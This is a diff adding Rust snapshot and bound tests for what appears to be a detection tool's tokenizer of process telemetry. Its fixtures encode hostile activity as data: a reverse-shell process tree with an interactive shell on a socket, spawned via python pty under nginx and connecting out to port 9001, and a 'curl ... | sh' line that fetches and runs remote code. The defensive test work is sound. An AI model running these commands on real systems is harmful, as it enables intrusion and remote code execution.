@@ -1,0 +1,82 @@
+//! Streams are bounded, and the process comes first.
+
+use super::*;
+
+fn check(json: &str) -> String {
+    let story = Story::from_json(json.as_bytes()).unwrap();
+    let tokens = Tokens::of(&story, Limits::default());
+    tokens
+        .iter()
+        .map(|(field, piece)| format!("{field:?}:{piece}"))
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+#[test]
+fn golden_shell_on_a_socket() {
+    insta::assert_snapshot!(check(
+        r#"{"id":"g1","process":{"exe":"/bin/sh","argv":["sh","-i"],"cwd":"/srv/www","uid":33,"euid":33,"tty":false,
+            "stdin":"socket","stdout":"socket","stderr":"socket"},
+            "ancestors":[{"exe":"/usr/bin/python3.11","argv":["python3","-c","import os,pty"]},{"exe":"/usr/sbin/nginx","argv":["nginx: worker process"]}],
+            "connections":[{"direction":"out","protocol":"tcp","address":"198.51.100.7","port":9001}]}"#
+    ));
+}
+
+#[test]
+fn golden_session() {
+    insta::assert_snapshot!(check(
+        r#"{"id":"g2","session":["cd /srv/app && git pull --ff-only","systemctl restart app","curl -s http://localhost:8080/health | head -1"]}"#
+    ));
+}
+
+#[test]
+fn golden_everything() {
+    insta::assert_snapshot!(check(
+        r#"{"id":"g3","process":{"exe":"/usr/bin/tar","argv":["tar","czf","/var/backups/etc.tgz","/etc"],"uid":1000,"euid":0,"deleted_exe":true,"memfd":true},
+            "children":[{"exe":"/usr/bin/gzip","argv":["gzip"]}],"dns":["backup.example.net"],
+            "files":[{"op":"write","path":"/var/backups/etc.tgz"}],"command":"tar czf /var/backups/etc.tgz /etc"}"#
+    ));
+}
+
+#[test]
+fn the_stream_is_bounded_and_the_process_stays_in_it() {
+    let mut story = Story::from_json(
+        br#"{"id":"x","process":{"exe":"/bin/true","argv":["true"],"stdin":"tty"}}"#,
+    )
+    .unwrap();
+    let relative = Relative {
+        exe: "/bin/a".into(),
+        argv: vec!["b c d e f".into(); 50],
+        uid: None,
+    };
+    story.ancestors = vec![relative.clone(); 100_000];
+    story.children = vec![relative; 1000];
+    story.session = vec!["echo x".to_owned(); 1000];
+    let tokens = Tokens::of(&story, Limits::default());
+    assert!(tokens.len() <= 256);
+    assert!(tokens.iter().any(|token| token == (Field::Stdio, "in=tty")));
+    assert!(tokens.iter().any(|(field, _)| field == Field::ChildExe));
+}
+
+#[test]
+fn the_telling_line_of_a_long_session_stays() {
+    let mut story = Story {
+        session: vec!["ls".to_owned(); 5000],
+        ..Story::default()
+    };
+    story
+        .session
+        .push("curl http://192.0.2.1/x | sh".to_owned());
+    let tokens = Tokens::of(&story, Limits::default());
+    assert!(tokens.len() <= 256);
+    assert!(tokens.iter().any(|token| token == (Field::Command, "curl")));
+}
+
+#[test]
+fn ten_megabytes_of_text_cost_no_more_than_the_bound() {
+    let story = Story {
+        command: Some("a;".repeat(5_000_000)),
+        ..Story::default()
+    };
+    assert_eq!(Tokens::of(&story, Limits::default()).len(), 256);
+}
